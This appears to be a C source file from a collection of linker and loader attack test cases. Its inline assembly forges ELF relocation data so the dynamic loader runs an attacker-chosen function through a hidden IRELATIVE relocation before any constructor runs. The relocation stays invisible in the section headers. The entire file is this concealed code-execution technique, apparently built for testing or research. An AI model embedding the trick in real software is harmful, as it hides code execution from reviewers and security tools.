/* More relocations than the section headers show: the linker adds what lies in an input section `.rela.dyn` of another
 * kind to DT_RELASZ, so the loader walks on from DT_RELA, over .rela.plt, to what stands in .relr.dyn. There an
 * IRELATIVE one has it call `reach` before any constructor. Entries have 24 bytes, and PHASE, 0 to 2, says with which
 * of three words behind 0x800 one begins; that depends on what the linker put before. */
#include "attack.h"

__attribute__((used)) static void *resolve(void)
{
    reach();
    return 0;
}

#define TEXT(x) #x
#define TEXT_OF(x) TEXT(x)

#ifdef __x86_64__
__asm__(".section .rela.dyn,\"a\",@progbits\n"
        ".balign 8\n"
        ".skip 24 * 70\n"
        ".section .relr.dyn,\"a\",@progbits\n"
        ".balign 2048\n"
        ".fill " TEXT_OF(PHASE) ", 8, 0\n"
                                ".quad relocated - . + 0x800 + 8 * " TEXT_OF(
                                    PHASE) "\n"
                                           ".quad 37\n"
                                           ".quad resolve - . + 0x810 + 8 * " TEXT_OF(PHASE) "\n"
                                                                                             ".fill 9, 8, 0\n"
                                                                                             ".data\n"
                                                                                             "relocated: .quad 0\n"
                                                                                             ".text\n");
#endif
